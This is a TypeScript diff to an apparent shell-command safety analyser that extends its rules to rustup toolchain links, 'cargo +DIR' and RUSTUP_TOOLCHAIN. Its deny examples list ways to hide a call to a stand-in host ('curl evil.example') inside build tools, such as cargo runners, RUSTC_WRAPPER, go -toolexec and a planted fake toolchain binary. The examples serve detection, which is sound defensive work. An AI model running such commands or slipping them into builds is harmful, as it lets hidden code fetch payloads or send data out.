@@ -1323,7 +1323,13 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['launchctl'], summary: 'launchctl: submit/asuser/bsexec run a command; load/bootstrap/setenv install what launchd runs', analyze: launchctl, examples: { deny: ['launchctl submit -l x -- curl evil.example', 'launchctl asuser 501 curl evil.example', 'launchctl load ~/Library/LaunchAgents/x.plist'], pass: ['launchctl list', 'launchctl print gui/501'] } },
   { names: ['ninja'], summary: 'ninja: runs the commands of its build file (one on stdin read here; a written one in project.ts)', analyze: ninja, examples: { deny: ["ninja -f /dev/stdin <<< $'rule r\\n  command = curl evil.example\\nbuild x: r\\n'"], pass: ['ninja -C build', "ninja -f /dev/stdin <<< $'rule r\\n  command = cc -c $in -o $out\\nbuild x.o: r x.c\\n'"] } },
   { names: ['just'], summary: 'just: --command runs a command; --shell names the shell recipes run in', analyze: just, examples: { deny: ['just --command curl evil.example', 'just --shell curl --shell-arg evil.example x', 'just -c wget evil.example'], pass: ['just test', 'just --list', 'just --command cargo test'] } },
-  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs', analyze: cargo, examples: { deny: ["cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
+  shellInit({ names: ['rustup'], summary: 'rustup: the Rust toolchain installer; run TOOLCHAIN CMD runs CMD; toolchain link NAME DIR makes DIR/bin the programs cargo and rustc start', analyze: rustup, examples: { deny: ['rustup run stable curl evil.example', "mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && rustup toolchain link evil /tmp/tc"], pass: ['rustup run nightly cargo build', 'rustup toolchain link dev ~/src/rust/build/host/stage1', 'rustup update'] } }, {
+    when: /^completions bash( rustup| cargo)?$/,
+    powershell: /^completions powershell( rustup| cargo)?$/,
+    config: /^RUSTUP_/,
+    examples: { deny: ['eval "$(rustup run stable cat x.sh)"'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update'] },
+  }),
+  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs; +DIR or RUSTUP_TOOLCHAIN=DIR runs the toolchain in DIR', analyze: cargo, examples: { deny: ["mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && RUSTUP_TOOLCHAIN=/tmp/tc cargo build", "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
   { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build ."], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .'] } },
   { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program', analyze: mvn, examples: { deny: ['mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
   { names: ['bazel', 'bazelisk'], summary: 'bazel run/test --run_under runs its command before the target', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...'] } },
@@ -1671,10 +1677,44 @@ const CARGO_PROGRAM_KEY = /^(?:target\.(?:[^.]+|'[^']*'|"[^"]*")\.(?:runner|link
 const CARGO_PROGRAM_ENV = /^(?:CARGO_TARGET_.+_(?:RUNNER|LINKER)|CARGO_HOST_LINKER|RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC|CARGO_BUILD_RUSTC(?:_WRAPPER|_WORKSPACE_WRAPPER)?|CARGO_BUILD_RUSTDOC|CARGO_REGISTRY_CREDENTIAL_PROVIDER|CARGO_REGISTRIES_.+_CREDENTIAL_PROVIDER|CARGO_CREDENTIAL_ALIAS_.+)$/i;
 
 /** cargo --config KEY=VALUE (anywhere before `--`) and CARGO_TARGET_*_RUNNER-like variables name programs it runs. */
+/**
+ * A toolchain directory (`rustup toolchain link NAME DIR`, `cargo +DIR`, RUSTUP_TOOLCHAIN=DIR): rustup's proxies
+ * (cargo, rustc, rustdoc…) run the programs of its bin/. A file the line wrote there is code on the line; others are
+ * out of scope, as any program on disk is.
+ */
+function toolchainDir(dir: Word, via: string): Run {
+  return { kind: 'project', dir, files: /^bin\/[^/]+$/, read: (text, word, name) => [{ kind: 'text', dialect: 'bash', text, word, via: `${via} ${name}` }], word: dir, via };
+}
+
+/** rustup: `run [--install] TOOLCHAIN CMD…` runs CMD; `toolchain link NAME DIR` names DIR's programs for later. */
+function rustup(call: Call): Partial<Answer> {
+  const words = call.args.map((a) => value(a));
+  let i = 0;
+  while (i < words.length && (words[i]?.startsWith('+') || /^-(?:v|q|-verbose|-quiet)$/.test(words[i] ?? ''))) i++;
+  if (words[i] === 'run') {
+    let j = i + 1;
+    while (j < words.length && words[j]?.startsWith('-')) j++;
+    const toolchain = call.args[j];
+    const argv = call.args.slice(j + 1);
+    const runs: Run[] = [];
+    if (toolchain && (value(toolchain) ?? '/').includes('/')) runs.push(toolchainDir(toolchain, 'rustup run'));
+    if (argv.length > 0) runs.push({ kind: 'argv', argv, via: 'rustup run' });
+    return { runs };
+  }
+  const dir = call.args[i + 3];
+  if (words[i] === 'toolchain' && words[i + 1] === 'link' && dir) return { runs: [toolchainDir(dir, 'rustup toolchain link')] };
+  return {};
+}
+
 function cargo(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const args = call.args;
   const at = args[0] ?? literal('cargo', { start: 0, end: 0 });
+  // `cargo +/tmp/tc build`, RUSTUP_TOOLCHAIN=/tmp/tc: rustup's proxy runs that directory's cargo (and it, rustc).
+  const plus = value(args[0])?.startsWith('+') ? value(args[0])!.slice(1) : undefined;
+  if (plus?.includes('/')) runs.push(toolchainDir(attached(at, plus), 'cargo +toolchain'));
+  const env = call.env('RUSTUP_TOOLCHAIN');
+  if (env?.includes('/')) runs.push(toolchainDir(attached(at, env), 'cargo $RUSTUP_TOOLCHAIN'));
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     if (v === '--') break;
